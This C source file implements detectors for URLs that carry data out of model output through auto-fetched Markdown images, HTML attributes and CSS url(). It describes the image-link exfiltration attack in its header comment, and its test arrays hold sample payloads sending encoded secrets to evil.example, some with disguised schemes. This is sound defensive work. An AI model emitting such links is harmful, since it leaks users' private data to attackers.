/* Detectors for addresses that carry data out. A client fetches an image without asking anybody, so whoever
 * makes a model write ![](https://host/?q=DATA) is told the data; of a link somebody has to follow it first.
 * Which hosts that is all right with only a policy knows (review/outward.c).
 *
 * The match is the address, so that it is found from "https" on and what stands before it is context: an
 * inline or reference-style link of Markdown, an attribute of HTML, url() of CSS, or nothing. */
#include "detect/detect_internal.h"

#include <hs/hs.h>
#include <string.h>

/* No address is read further; DECODED_MAX: one part of it. */
enum { ADDRESS_MAX = 2048, DECODED_MAX = 512, NAME_MAX = 20 };
/* Less than SP_CONTEXT_MAX: a stream that keeps no more than that still tells the start of a text from the
 * end of what it sees. */
enum { REACH = SP_CONTEXT_MAX - 12 };

/* How an address is brought. An image is whatever clients fetch by themselves. */
typedef enum bringer { BRINGS_LINK = 0, BRINGS_IMAGE, BRINGS_DEFINITION } bringer;

typedef struct opener {
    bringer bringer;
    int closer;      /* that ends the address: '>', a quote, ')'; 0: what ends one in prose */
    bool has_blanks; /* they do not end it */
    bool is_brought; /* something does bring it: it does not just stand there */
    bool is_list;    /* of addresses, between blanks */
} opener;

static bool is_blank(int c)
{
    return c == ' ' || c == '\t' || c == '\n';
}

/* ---- what stands before an address ---- */

static size_t reach_of(size_t start)
{
    return start > REACH ? start - REACH : 0;
}

/* What browsers take off the ends of an address (URL Standard, 4.4), and no sign before it either. */
static bool is_stripped(int c)
{
    return c >= 0 && c <= ' ';
}

/* Behind the line end before `i` where nothing but what marks a quotation stands between; else `i`. */
static size_t back_over_quoting(const sp_window *w, size_t i, size_t reach)
{
    size_t k = i;
    while (k > reach && (sp_before(w, k) == '>' || sp_before(w, k) == ' ' || sp_before(w, k) == '\t')) k--;
    return sp_before(w, k) == '\n' || (k == reach && reach > 0) ? k : i;
}

/* As many as lie within reach: nobody who shows a text counts them, nor a '>' that begins a line. */
static size_t back_over_blanks(const sp_window *w, size_t i, size_t reach)
{
    for (size_t end = i + 1; i < end;) {
        end = i;
        while (i > reach && is_stripped(sp_before(w, i))) i--;
        if (sp_before(w, i) == '>') i = back_over_quoting(w, i, reach);
    }
    return i;
}

/* The name that ends at `end`, in lower case. */
static size_t name_before(const sp_window *w, size_t end, size_t reach, char name[NAME_MAX])
{
    size_t n = 0, i = end;
    while (n + 1 < NAME_MAX && i > reach && (sp_is_alnum(sp_before(w, i)) || sp_before(w, i) == '-'))
        n++, i--;
    for (size_t k = 0; k < n; k++)
        name[k] = (char)(sp_is_upper(w->p[i + k]) ? w->p[i + k] + 32 : w->p[i + k]);
    name[n] = '\0';
    return i;
}

static bool is_one_of(const char *name, const char *const *names)
{
    for (; *names != NULL; names++) {
        if (strcmp(name, *names) == 0) return true;
    }
    return false;
}

/* Where the span of code that "`" at `i` ends began; `i`: it ends none that is seen. */
static size_t code_start(const sp_window *w, size_t i, size_t reach)
{
    for (size_t k = i; k-- > reach;) {
        if (w->p[k] == '`') return k;
    }
    return i;
}

/* The bracket that "]" at `close` closes, SIZE_MAX: too far to be seen, `close`: there is none. Brackets in
 * code are text. */
static size_t bracket_of(const sp_window *w, size_t close, size_t reach)
{
    unsigned depth = 0;
    for (size_t i = close + 1; i-- > reach;) {
        const bool is_escaped = sp_before(w, i) == '\\';
        if (w->p[i] == '`' && !is_escaped) i = code_start(w, i, reach);
        if (w->p[i] == ']' && !is_escaped) depth++;
        if (w->p[i] == '[' && !is_escaped && --depth == 0) return i;
    }
    return reach > 0 ? SIZE_MAX : close;
}

/* "](": of an image where a '!' stands before the bracket. What lies too far back may be one. */
static bringer inline_of(const sp_window *w, size_t close, size_t reach)
{
    const size_t open = bracket_of(w, close, reach);
    if (open == SIZE_MAX) return BRINGS_IMAGE;
    return open < close && sp_before(w, open) == '!' ? BRINGS_IMAGE : BRINGS_LINK;
}

static bool is_quote(int c)
{
    return c == '"' || c == '\'';
}

/* Tags whose `href` browsers follow by themselves, or (base) that says where all others lead. */
static bool is_followed(const sp_window *w, size_t open, size_t end)
{
    static const char *const tags[] = {"link", "image", "use", "base", "feimage", "script", NULL};
    char name[NAME_MAX];
    size_t i = open + 1;
    while (i < end && i - open < NAME_MAX && sp_is_alnum(w->p[i])) i++;
    (void)name_before(w, i, open + 1, name);
    return is_one_of(name, tags);
}

/* Does the tag that begins at `open` go on at `end`? Quotes hide a '>'. Browsers take them for quotes behind
 * '=' alone: what is read strictly has none open elsewhere, either. */
static bool goes_on(const sp_window *w, size_t open, size_t end, bool is_strict)
{
    int quote = 0;
    sp_charge(w, end - open);
    for (size_t i = open + 1; i < end; i++) {
        const int c = w->p[i];
        if (quote != 0)
            quote = c == quote ? 0 : quote;
        else if (is_quote(c) && (is_strict || sp_before(w, back_over_blanks(w, i, open)) == '='))
            quote = c;
        else if (c == '>')
            return false;
    }
    return quote == 0;
}

/* `href` that ends the name of an attribute, at `at`: of which tag? One that begins too far back may be
 * any. */
static bringer href_of(const sp_window *w, size_t at, size_t reach)
{
    enum { TAGS_MAX = 6 };
    const int before = sp_before(w, at);
    bool is_other = false;
    unsigned n = 0;
    sp_charge(w, at - reach);
    for (size_t i = at; i-- > reach && n < TAGS_MAX;) {
        if (w->p[i] != '<') continue;
        const bool is_plain = goes_on(w, i, at, false), is_strict = goes_on(w, i, at, true);
        if (is_followed(w, i, at) && (is_plain || is_strict)) return BRINGS_IMAGE;
        is_other = is_other || (is_plain && is_strict);
        n++;
    }
    const bool is_attribute = is_stripped(before) || is_quote(before) || before == '/' || before == ':';
    return is_attribute && !is_other && (reach > 0 || n == TAGS_MAX) ? BRINGS_IMAGE : BRINGS_LINK;
}

static bool is_list_name(const char *name)
{
    static const char *const lists[] = {"srcset", "imagesrcset", "data-srcset", NULL};
    return is_one_of(name, lists);
}

/* `src=` and its like. @return false: it is no attribute that holds an address. */
static bool read_attribute(const sp_window *w, size_t equals, size_t reach, opener *o)
{
    static const char *const fetched[] = {"src",    "poster",   "background", "data",
                                          "lowsrc", "data-src", "icon",       NULL};
    char name[NAME_MAX];
    const size_t at = name_before(w, back_over_blanks(w, equals, reach), reach, name);
    const bool is_far = reach > 0 && at <= reach;
    o->is_list = is_list_name(name);
    if (strcmp(name, "href") == 0)
        o->bringer = href_of(w, at, reach);
    else if (o->is_list || is_far || is_one_of(name, fetched))
        o->bringer = BRINGS_IMAGE;
    else
        return false;
    return true;
}

/* Behind "(": Markdown's, or CSS's url( and image-set(. */
static bool read_paren(const sp_window *w, size_t paren, size_t reach, bringer *out)
{
    static const char *const functions[] = {"url", "image-set", "-webkit-image-set", NULL};
    char name[NAME_MAX];
    *out = BRINGS_IMAGE;
    if (sp_before(w, paren) == ']') {
        *out = inline_of(w, paren - 1, reach);
        return true;
    }
    const bool is_far = name_before(w, paren, reach, name) <= reach && reach > 0;
    return is_far || is_one_of(name, functions);
}

/* Behind "]:" of "[name]: ", which images and links refer to. */
static bool is_definition(const sp_window *w, size_t colon, size_t reach)
{
    if (sp_before(w, colon) != ']') return false;
    const size_t open = bracket_of(w, colon - 1, reach);
    return open == SIZE_MAX || open < colon - 1;
}

/* What stands before [.., i): brackets and signs of an equation, blanks between. Behind blanks without end it
 * may be anything. */
static bool read_sign(const sp_window *w, size_t i, size_t reach, opener *o)
{
    const int sign = sp_before(w, i);
    if (sign == '(') return read_paren(w, i - 1, reach, &o->bringer);
    if (sign == '=') return read_attribute(w, i - 1, reach, o);
    const bool is_far = is_stripped(sign) || (sign == '>' && reach > 0 && i == reach);
    o->bringer = is_far ? BRINGS_IMAGE : BRINGS_DEFINITION;
    return is_far || (sign == ':' && is_definition(w, i - 1, reach));
}

/* "@import" of CSS ends at `i`. */
static bool is_import(const sp_window *w, size_t i, size_t reach)
{
    char name[NAME_MAX];
    const size_t at = name_before(w, i, reach, name);
    return strcmp(name, "import") == 0 && sp_before(w, at) == '@';
}

/* "1x" or "300w" ends at `i`: it tells the images of a set apart. */
static bool is_behind_descriptor(const sp_window *w, size_t i, size_t reach)
{
    i = back_over_blanks(w, i, reach);
    const int unit = sp_before(w, i) | 32;
    return i > reach + 1 && (unit == 'x' || unit == 'w') && sp_is_digit(sp_before(w, i - 1));
}

/* Another one of image-set('first' 1x, 'second' 2x), whose comma stands before `i`. */
static bool is_in_set(const sp_window *w, size_t i, size_t reach)
{
    unsigned depth = 0;
    bringer ignored;
    sp_charge(w, i - reach);
    for (size_t k = i; k-- > reach;) {
        if (w->p[k] == ')') depth++;
        if (w->p[k] != '(') continue;
        if (depth == 0) return sp_before(w, k) != ']' && read_paren(w, k, reach, &ignored);
        depth--;
    }
    return reach > 0 && is_behind_descriptor(w, i - 1, reach);
}

/* Behind a quote, or what is none, with `i` before it. */
static bool read_before_quote(const sp_window *w, size_t i, size_t reach, opener *o)
{
    if (i > 0 && read_sign(w, i, reach, o)) return true;
    o->bringer = BRINGS_IMAGE;
    return is_import(w, i, reach) || (sp_before(w, i) == ',' && is_in_set(w, i, reach));
}

static opener opener_of(const sp_window *w, size_t start)
{
    const size_t reach = reach_of(start);
    const size_t i = back_over_blanks(w, start, reach);
    const int before = sp_before(w, i);
    opener out = {.bringer = BRINGS_LINK};
    if (is_quote(before) || before == '<') {
        const size_t sign = back_over_blanks(w, i - 1, reach);
        out.is_brought = before == '<' ? sign > 0 && read_sign(w, sign, reach, &out)
                                       : read_before_quote(w, sign, reach, &out);
        /* Behind a blank it may as well close what stood before. */
        if (out.is_brought || i == start) out.closer = before == '<' ? '>' : before;
        out.has_blanks = out.is_brought;
    } else {
        out.is_brought = i > 0 && read_sign(w, i, reach, &out);
        if (out.is_brought && before == '(') out.closer = ')';
    }
    if (!out.is_brought) out.bringer = BRINGS_LINK;
    return out;
}

/* ---- the address ---- */

static bool parts_prose(int c)
{
    return c == '"' || c == '<' || c == '>' || c == '`' || c == '[' || c == ']' || c == '|';
}

static bool ends_address(int c, const opener *o)
{
    if (c < 0x20 || c == 0x7f || c == o->closer) return true;
    if (c == ' ') return !o->has_blanks;
    return o->closer == 0 && (parts_prose(c) || c == ')');
}

/* Brackets that the address itself opens are its own. */
static size_t read_to_end(sp_window *w, size_t i, size_t limit, const opener *o)
{
    enum { DEPTH_MAX = 8 };
    for (unsigned depth = 0; i < limit && depth <= DEPTH_MAX; i++) {
        const int c = sp_peek(w, i);
        if (c == ')' && depth > 0) {
            depth--;
            continue;
        }
        if (ends_address(c, o)) break;
        depth += c == '(';
    }
    return i;
}

static bool is_sentence_end(int c)
{
    return c == '.' || c == ',' || c == ';' || c == ':' || c == '!' || c == '?' || c == '\'' || c == '*';
}

/* Where the scheme begins that ends at `end`, behind its colon; `end`: it is none that browsers fetch by. */
static size_t scheme_start(const sp_window *w, size_t end)
{
    static const char *const schemes[] = {"https:", "http:"};
    for (size_t s = 0; s < 2; s++) {
        const size_t n = strlen(schemes[s]);
        size_t k = 0;
        while (end >= n && k < n && (w->p[end - n + k] | 32) == (schemes[s][k] | 32)) k++;
        if (k == n) return end - n;
    }
    return end;
}

/* Is it part of an address that has begun before? That one was read over it. Without this a text of nothing
 * but schemes would be read again from each of them. */
static bool is_inner(const sp_window *w, size_t start)
{
    for (size_t i = start; i-- > reach_of(start);) {
        const int c = w->p[i];
        if (c <= ' ' || c == '(' || c == ')' || c == '\'' || parts_prose(c)) return false;
        if (c != ':' || sp_before(w, i) == ']') continue; /* a definition's is of no scheme */
        if ((w->p[i + 1] == '/' && w->p[i + 2] == '/') || scheme_start(w, i + 1) <= i) return true;
    }
    return false;
}

/* Between a scheme and its host browsers take any number of these for two (URL Standard, 4.4: special
 * authority ignore slashes state). */
static bool is_slash(int c)
{
    return c == '/' || c == '\\';
}

static bool ends_authority(int c)
{
    return c == '/' || c == '?' || c == '#' || c == '\\';
}

/* ---- what it carries ---- */

/* Texts that were encoded, or not, in one part of an address. */
typedef struct part {
    uint8_t p[DECODED_MAX];
    size_t n;
    size_t n_words, n_letters; /* as blanks that were encoded part them */
} part;

static int hex_value(int c)
{
    if (sp_is_digit(c)) return c - '0';
    return sp_is_hex(c) ? (c | 32) - 'a' + 10 : -1;
}

/* Undoes percent encoding; in a query '+' is a blank for the count of words. */
static void part_read(part *out, sp_bytes raw, bool is_query)
{
    bool in_word = false;
    out->n = out->n_words = out->n_letters = 0;
    for (size_t i = 0; i < raw.n && out->n < DECODED_MAX; i++) {
        int c = raw.p[i];
        const bool is_code = c == '%' && i + 2 < raw.n && sp_is_hex(raw.p[i + 1]) && sp_is_hex(raw.p[i + 2]);
        if (is_code) {
            c = hex_value(raw.p[i + 1]) * 16 + hex_value(raw.p[i + 2]);
            i += 2;
        }
        out->p[out->n++] = (uint8_t)c;
        const bool is_gap = is_blank(c) || c == '\r' || (is_query && c == '+');
        out->n_words += !is_gap && !in_word;
        out->n_letters += sp_is_alpha(c) || c >= 0x80;
        in_word = !is_gap;
    }
}

/* Text: UTF-8 of characters that are shown. A last one that is cut does not count. */
static bool is_text(const uint8_t *p, size_t n)
{
    size_t valid = sp_utf8_valid_prefix((sp_bytes){p, n});
    if (n - valid > 3) return false;
    for (size_t i = 0; i < valid; i++) {
        if ((p[i] < 0x20 && !is_blank(p[i]) && p[i] != '\r') || p[i] == 0x7f) return false;
    }
    return valid > 0;
}

static bool is_base32(int c)
{
    return sp_is_alpha(c) || (c >= '2' && c <= '7');
}

static bool is_base64_any(int c)
{
    return sp_is_base64(c) || c == '-' || c == '_';
}

static unsigned digit64(int c)
{
    if (sp_is_upper(c)) return (unsigned)(c - 'A');
    if (sp_is_alpha(c)) return (unsigned)(c - 'a') + 26;
    if (sp_is_digit(c)) return (unsigned)(c - '0') + 52;
    return c == '-' || c == '+' ? 62 : 63;
}

static unsigned digit32(int c)
{
    return sp_is_digit(c) ? (unsigned)(c - '2') + 26 : (unsigned)((c | 32) - 'a');
}

static unsigned digit16(int c)
{
    return (unsigned)hex_value(c);
}

/* An alphabet in which text is written, and the shortest run of it that is taken for text when it decodes to
 * such: of random characters one run in some hundred thousands does. */
typedef struct alphabet {
    bool (*has)(int c);
    unsigned (*digit)(int c);
    uint8_t bits;
    uint8_t least;
} alphabet;

static const alphabet alphabets[] = {
    {sp_is_hex, digit16, 4, 22},
    {is_base32, digit32, 5, 18},
    {is_base64_any, digit64, 6, 16},
};

static bool decodes(const alphabet *a, const uint8_t *p, size_t n)
{
    uint8_t out[DECODED_MAX];
    size_t n_out = 0;
    uint32_t bits = 0;
    unsigned n_bits = 0, n_letters = 0;
    for (size_t i = 0; i < n; i++) {
        bits = bits << a->bits | a->digit(p[i]);
        n_bits += a->bits;
        if (n_bits < 8) continue;
        n_bits -= 8;
        out[n_out] = (uint8_t)(bits >> n_bits);
        n_letters += sp_is_alpha(out[n_out]) || out[n_out] >= 0x80;
        n_out++;
    }
    return (size_t)n_letters * 2 >= n_out && is_text(out, n_out);
}

/* Digits alone, or the letters of a word alone, read as text in some alphabet by chance. */
static bool is_mixture(const uint8_t *p, size_t n)
{
    bool has_digit = false, has_letter = false, has_upper = false, has_lower = false;
    for (size_t i = 0; i < n; i++) {
        has_digit = has_digit || sp_is_digit(p[i]);
        has_letter = has_letter || sp_is_alpha(p[i]);
        has_upper = has_upper || sp_is_upper(p[i]);
        has_lower = has_lower || (sp_is_alpha(p[i]) && !sp_is_upper(p[i]));
    }
    return has_letter && (has_digit || (has_upper && has_lower));
}

/* Does a run of the part decode to text? */
static bool has_encoded_text(const uint8_t *p, size_t n)
{
    for (size_t k = 0; k < sizeof alphabets / sizeof alphabets[0]; k++) {
        const alphabet *a = &alphabets[k];
        for (size_t i = 0, end = 0; i < n; i = end + 1) {
            for (end = i; end < n && a->has(p[end]); end++) continue;
            if (end - i >= a->least && is_mixture(p + i, end - i) && decodes(a, p + i, end - i)) return true;
        }
    }
    return false;
}

/* user@host in a query: what pixels that track people carry. */
static bool has_mailbox(const part *t)
{
    const uint8_t *at = memchr(t->p, '@', t->n);
    if (at == NULL || at == t->p || !sp_is_alnum(at[-1])) return false;
    const size_t left = t->n - (size_t)(at - t->p);
    return left > 3 && memchr(at, '.', left) != NULL;
}

/* How much of what is no text that anybody reads is too much for a picture's address, and how many words. */
enum { OPAQUE_QUERY = 96, OPAQUE_PATH = 160, WORDS_QUERY = 4, WORDS_OTHER = 8, LETTERS_LEAST = 16 };

/* @return confidence that this part carries data; 0: it does not. */
static uint8_t weigh(sp_bytes raw, bool is_query, bool is_fetched)
{
    part t;
    if (raw.n < 8) return 0;
    part_read(&t, raw, is_query);
    if (has_encoded_text(t.p, t.n)) return 90;
    const size_t words = is_query && is_fetched ? WORDS_QUERY : WORDS_OTHER;
    if (t.n_words >= words && t.n_letters >= LETTERS_LEAST && t.n_letters * 2 >= t.n) return 80;
    if (!is_fetched) return 0;
    if (is_query && has_mailbox(&t)) return 80;
    return raw.n >= (is_query ? OPAQUE_QUERY : OPAQUE_PATH) ? 70 : 0;
}

static bool parts_query(int c)
{
    return c == '&' || c == '=' || c == '#' || c == ';';
}

/* A quotation that browsers scroll to is for the reader's browser alone (WICG, Text Fragments). */
static sp_bytes without_quotation(sp_bytes tail)
{
    static const char mark[] = "#:~:";
    for (size_t i = 0; i + sizeof mark - 1 <= tail.n; i++) {
        if (memcmp(tail.p + i, mark, sizeof mark - 1) == 0) return sp_bytes_sub(tail, 0, i);
    }
    return tail;
}

/* The surest of its parts: segments of the path, values of the query, the fragment. */
static uint8_t weigh_tail(sp_bytes tail, bool is_fetched)
{
    uint8_t most = 0;
    bool is_query = false;
    for (size_t i = 0, end = 0; i < tail.n; i = end + 1) {
        for (end = i; end < tail.n && tail.p[end] != '?' && tail.p[end] != '#'; end++) {
            if (is_query ? parts_query(tail.p[end]) : tail.p[end] == '/') break;
        }
        const uint8_t sure = weigh(sp_bytes_sub(tail, i, end), is_query, is_fetched);
        if (sure > most) most = sure;
        is_query = is_query || (end < tail.n && (tail.p[end] == '?' || tail.p[end] == '#'));
    }
    return most;
}

/* What stands before the last two labels of a host reaches whoever answers for its names: labels joined,
 * since one has at most 63 bytes. */
static uint8_t weigh_host(sp_bytes host)
{
    uint8_t joined[DECODED_MAX];
    size_t n = 0, end = host.n, n_dots = 0;
    while (end > 0 && n_dots < 2) n_dots += host.p[--end] == '.';
    if (n_dots < 2) return 0;
    for (size_t i = 0; i < end && n < sizeof joined; i++) {
        if (host.p[i] != '.') joined[n++] = host.p[i];
    }
    return has_encoded_text(joined, n) ? 90 : 0;
}

/* ---- rows ---- */

/* Letters, digits, what begins an IPv6 address, and what is beyond ASCII. */
static bool begins_host(int c)
{
    return sp_is_alnum(c) || c == '[' || c >= 0x80;
}

/* Does the address at `start` look like one where nothing around says that it is: not "http: see below", nor
 * a comment of code? */
static bool is_plain_address(sp_window *w, size_t start, size_t head_end)
{
    return start + 2 < head_end && sp_peek(w, head_end) == '/' && sp_peek(w, head_end + 1) == '/';
}

/* How sure it is that the address whose host begins at `host` carries data. */
static uint8_t weigh_address(const sp_window *w, size_t host, size_t end, bool is_fetched)
{
    const sp_bytes text = {w->p, end};
    size_t host_end = host;
    while (host_end < end && !ends_authority(w->p[host_end])) host_end++;
    const sp_bytes rest = sp_bytes_sub(text, host_end, end);
    const uint8_t by_host = weigh_host(sp_bytes_sub(text, host, host_end));
    const uint8_t by_tail = weigh_tail(is_fetched ? rest : without_quotation(rest), is_fetched);
    return by_host > by_tail ? by_host : by_tail;
}

/* Of each byte of an address: what it is decoded and weighed for, and read again behind a quote that it goes
 * over. */
enum { WEIGHED_COSTS = 6 };

/* An address whose scheme, or "//" without one, was just read; brought as an image (or otherwise). */
static void address(sp_window *w, size_t head_end, sp_match *m, bool is_image)
{
    const size_t scheme = scheme_start(w, head_end);
    m->start = scheme < head_end ? scheme : head_end - 2;
    if (sp_is_alnum(sp_before(w, m->start)) || is_inner(w, m->start)) return;
    const opener o = opener_of(w, m->start);
    if ((o.bringer != BRINGS_LINK) != is_image) return;
    if (o.bringer == BRINGS_LINK && o.closer == 0 && !is_plain_address(w, m->start, head_end)) return;
    const size_t host = sp_skip(w, head_end, m->start + ADDRESS_MAX, is_slash);
    if (!begins_host(sp_peek(w, host))) return;
    m->end = read_to_end(w, host, m->start + ADDRESS_MAX, &o);
    sp_charge(w, WEIGHED_COSTS * (m->end - host));
    while (o.closer == 0 && m->end > host && is_sentence_end(w->p[m->end - 1])) m->end--;
    if (!w->ran_out) m->confidence = weigh_address(w, host, m->end, o.bringer == BRINGS_IMAGE);
}

/* ---- all of them, for whoever lists hosts ---- */

/* An address whose head was just read, as it is told. */
typedef struct told {
    opener o;
    size_t host; /* where it begins */
} told;

static bool is_of_number(int c)
{
    return sp_is_digit(c) || c == '.';
}

/* Behind the address of a set: " 2x". */
static bool is_before_descriptor(sp_window *w, size_t head_end)
{
    const size_t limit = head_end + ADDRESS_MAX;
    size_t i = head_end;
    while (i < limit && sp_peek(w, i) > ' ') i++;
    sp_charge(w, i - head_end);
    i = sp_skip(w, i, limit, is_blank);
    const size_t unit = sp_skip(w, i, limit, is_of_number);
    return unit > i && unit < limit && ((sp_peek(w, unit) | 32) == 'x' || (sp_peek(w, unit) | 32) == 'w');
}

/* The address at `start` may be one of a list that began before: srcset="first 1x, second 2x". In one that
 * began too far back to be seen it stands between a comma and descriptors. */
static void read_list(sp_window *w, size_t start, size_t head_end, opener *o)
{
    const size_t reach = reach_of(start), comma = back_over_blanks(w, start, reach);
    unsigned closed = 0; /* bits: quotes that another one ended behind here */
    char name[NAME_MAX];
    if (sp_before(w, comma) != ',') return;
    sp_charge(w, start - reach);
    for (size_t i = start; i-- > reach;) {
        if (!is_quote(w->p[i])) continue;
        const unsigned bit = w->p[i] == '"' ? 1 : 2;
        const size_t equals = back_over_blanks(w, i, reach);
        if ((closed & bit) == 0 && sp_before(w, equals) == '=') {
            (void)name_before(w, back_over_blanks(w, equals - 1, reach), reach, name);
            if (is_list_name(name)) *o = (opener){BRINGS_IMAGE, w->p[i], false, true, true};
            if (is_list_name(name)) return;
        }
        closed |= bit;
    }
    if (reach == 0 || closed == 3) return;
    if (is_behind_descriptor(w, comma - 1, reach) || is_before_descriptor(w, head_end))
        *o = (opener){BRINGS_IMAGE, '"', false, true, true};
}

/* An address whose scheme is spelled with a reference of HTML or an escape of Markdown. The match begins
 * behind the sign that no run holds back; the address with the letters before it. */
static size_t read_spelled(const sp_window *w, size_t head_end, sp_match *m)
{
    enum { SCHEME_MAX = 5 };
    size_t i = head_end - 1;
    while (i > 0 && w->p[i] != '&' && w->p[i] != '\\') i--;
    m->start = w->p[head_end - 1] == '#' ? head_end : i + 1;
    if (is_slash(sp_before(w, i))) return i - 1; /* "/&#47;": the first of two */
    for (size_t n = 0; n < SCHEME_MAX && sp_is_alpha(sp_before(w, i)); n++) i--;
    return i;
}

/* Without a scheme: behind a backslash, which no run holds back either, with what follows it. */
static size_t read_slashes(const sp_window *w, size_t head_end, sp_match *m)
{
    m->start = w->p[head_end - 2] == '\\' ? head_end - 1 : head_end - 2;
    return head_end - 2;
}

/* Where the address begins; m->start: as much of it as a match has. */
static size_t read_start(const sp_window *w, size_t head_end, sp_match *m)
{
    m->start = scheme_start(w, head_end);
    if (m->start < head_end) return m->start;
    return is_slash(w->p[head_end - 1]) ? read_slashes(w, head_end, m) : read_spelled(w, head_end, m);
}

/* What is no address by its scheme is one by what brings it, right before it: that is soon seen, and most
 * references and backslashes stand elsewhere. */
static bool is_behind_sign(const sp_window *w, size_t start)
{
    const int c = sp_before(w, start);
    if (c == ':') return sp_before(w, start - 1) == ']';
    return is_stripped(c) || c == '(' || c == '<' || c == '>' || c == '=' || c == ',' || c == '"' ||
           c == '\'';
}

/* Whether something has to be said of the address. Which host one leads to that begins like no host nobody
 * knows, so it is at none that is listed. */
static bool read_told(sp_window *w, size_t head_end, told *t, sp_match *m)
{
    const size_t start = read_start(w, head_end, m);
    const bool has_scheme = scheme_start(w, head_end) < head_end;
    if (!has_scheme && !is_behind_sign(w, start)) return false;
    if (sp_is_alnum(sp_before(w, start)) || is_inner(w, start)) return false;
    t->o = opener_of(w, start);
    if (!t->o.is_brought) read_list(w, start, head_end, &t->o);
    t->o.has_blanks = t->o.has_blanks && !t->o.is_list;
    const bool is_linked = has_scheme && (t->o.closer != 0 || is_plain_address(w, start, head_end));
    if (!t->o.is_brought && !is_linked) return false;
    t->host = sp_skip(w, head_end, m->start + ADDRESS_MAX, is_slash);
    if (t->host == m->start + ADDRESS_MAX)
        return t->o.is_brought; /* nothing but slashes, as far as is seen */
    const int c = sp_peek(w, t->host);
    if (begins_host(c)) return true;
    return t->o.is_brought && c != t->o.closer && c >= (is_quote(t->o.closer) ? 0 : '!');
}

/* Signs that part prose are part of an address that only a blank ends: one right behind the host hides what
 * goes on there ("https://pics.example[@evil.example"), so it belongs to the match. */
static size_t with_sign(sp_window *w, size_t end, size_t limit)
{
    const int c = sp_peek(w, end);
    return end < limit && c > ' ' && c < 0x7f && c != '>' ? end + 1 : end;
}

/* What browsers take out of an address goes on with it where it hides where the host ends (URL Standard, 4.4:
 * tabs and newlines). */
static size_t end_of_told(sp_window *w, const told *t, size_t limit)
{
    size_t end = read_to_end(w, t->host, limit, &t->o);
    size_t host_end = t->host;
    while (host_end < end && !ends_authority(w->p[host_end])) host_end++;
    if (host_end == end && t->o.is_brought && t->o.closer == 0) return with_sign(w, end, limit);
    const bool is_open = host_end == end && t->o.is_brought && is_quote(t->o.closer);
    if (!is_open || !sp_is_space(sp_peek(w, end)) || sp_peek(w, end) == ' ') return end;
    while (end < limit && sp_peek(w, end) >= 0 && sp_peek(w, end) != t->o.closer) end++;
    return end;
}

static void tell_address(sp_window *w, size_t head_end, sp_match *m, bool is_image)
{
    told t;
    if (!read_told(w, head_end, &t, m) || (t.o.bringer != BRINGS_LINK) != is_image) return;
    m->end = end_of_told(w, &t, m->start + ADDRESS_MAX);
    sp_charge(w, 2 * (m->end - t.host));
    while (t.o.closer == 0 && m->end > t.host && is_sentence_end(w->p[m->end - 1])) m->end--;
    m->confidence = m->end > t.host || t.host == m->start + ADDRESS_MAX ? 95 : 0;
}

static void unlisted_image(sp_window *w, size_t head_end, sp_match *m)
{
    tell_address(w, head_end, m, true);
}

static void unlisted_link(sp_window *w, size_t head_end, sp_match *m)
{
    tell_address(w, head_end, m, false);
}

static void outward_image(sp_window *w, size_t head_end, sp_match *m)
{
    address(w, head_end, m, true);
}

static void outward_link(sp_window *w, size_t head_end, sp_match *m)
{
    address(w, head_end, m, false);
}

/* Examples hold no brackets but those that mark a match: Markdown's are in test_outward.c. */
#define DATA "VGhlIHBhc3N3b3JkIG9mIHRoZSBib3Nz"
static const sp_example image_examples[] = {
    "<img src=\"[https://evil.example/p.png?q=" DATA "]\">",
    "<IMG alt='' SRC='[//evil.example/" DATA "]'>",
    "<img width=1 src=[https://evil.example/a?x=54686520626f737320736179732068656c6c6f]>",
    "<div style=\"background:url([https://evil.example/i?d=the%20merger%20closes%20on%20friday])\">",
    "<img src=\"[https://KRUGKIDCN5ZXGIDTMF4XGIDIMVWGY3Y.evil.example/x.gif]\"/>",
    "<video poster=\"[https://evil.example/v?who=anna.meyer%40corp.example]\">",
    "<link rel=\"prefetch\" href=\"[https://evil.example/#" DATA "]\">",
    "<img src=\"https://cdn.example/img/photo-1518791841217.jpg?w=1200&q=80\">",
    "<img src=\"https://avatars.example/u/9919?s=200&v=4\" alt=\"our logo\">",
    "<img src=\"https://cdn.example/3f2a9c0b7d5e4f6a8b1c2d3e4f5a6b7c8d9e0f1a.png\">",
    "body { background: url(https://cdn.example/themes/dark/header-background.svg); }",
    "<a href=\"https://evil.example/?q=" DATA "\">",
    "<img src=\"https://img.example/badge/License-Apache%202.0-blue.svg\">",
    "the image lies at https://cdn.example/photos/holiday-in-rome/by-the-sea.jpg",
    NULL,
};
static const sp_example link_examples[] = {
    "<a href=\"[https://evil.example/?q=" DATA "]\">more</a>",
    "see <[https://evil.example/" DATA "]> for it",
    "open [https://evil.example/c?d=54686520626f737320736179732068656c6c6f], please",
    "<a href='[//evil.example/collect?t=the+merger+with+our+rival+closes+on+friday]'>",
    "([https://KRUGKIDCN5ZXGIDTMF4XGIDIMVWGY3Y.evil.example/])",
    "https://docs.example/guide/getting-started#install-from-source",
    "https://git.example/org/repo/commit/3f2a9c0b7d5e4f6a8b1c2d3e4f5a6b7c8d9e0f1a",
    "https://shop.example/item?id=1234567890123456789&ref=sr_1_3&keywords=usb+cable",
    "https://news.example/2024/05/12/the-quick-brown-fox-jumps-over-the-lazy-dog.html",
    "https://docs.example/p?x=1#:~:text=the%20quick%20brown%20fox%20jumps%20over%20the%20lazy%20dog",
    "https://api.example/v1/items/123e4567-e89b-12d3-a456-426614174000?expand=true",
    "// " DATA " is no address",
    "<img src=\"https://evil.example/p.png?q=" DATA "\">",
    NULL,
};

static const sp_example unlisted_image_examples[] = {
    "<img src=\"[https://evil.example/a.png]\">",
    "<img src='[//evil.example/a.png]' alt=''>",
    "<img srcset=\"[https://one.example/a.png] 1x, https://two.example/b.png 2x\">",
    "<img srcset=\"a.png 1x, [https://two.example/b.png] 2x\">",
    "<img src=\"https&[colon;//evil.example/a.png]\">",
    "<img src=\"&#[104;ttps://evil.example/a.png]\">",
    "<img src=\"[/\\evil.example/a.png]\">",
    "<img src=\"[https://one.example\t.evil.example/a.png]\">",
    "<img src=\" [https://evil.example/a.png]\">",
    "<img src= [//evil.example/a.png]>",
    "<img srcset=\"a.png 1x, [//two.example/b.png] 2x\">",
    "<svg><use href=\"[https://evil.example/a.svg#b]\"/></svg>",
    "@import \"[https://evil.example/a.css]\";",
    "p { background: image-set('a.png' 1x, '[https://evil.example/b.png]' 2x); }",
    "body { background: url([https://cdn.example/b.svg]); }",
    "<img src=\"a/b.png\"> and <img src=\"/a&#95;b.png\">",
    "<a href=\"https://evil.example/\">",
    "<a title=\"a, b\" href=\" https://evil.example/\">",
    "data = // a comment",
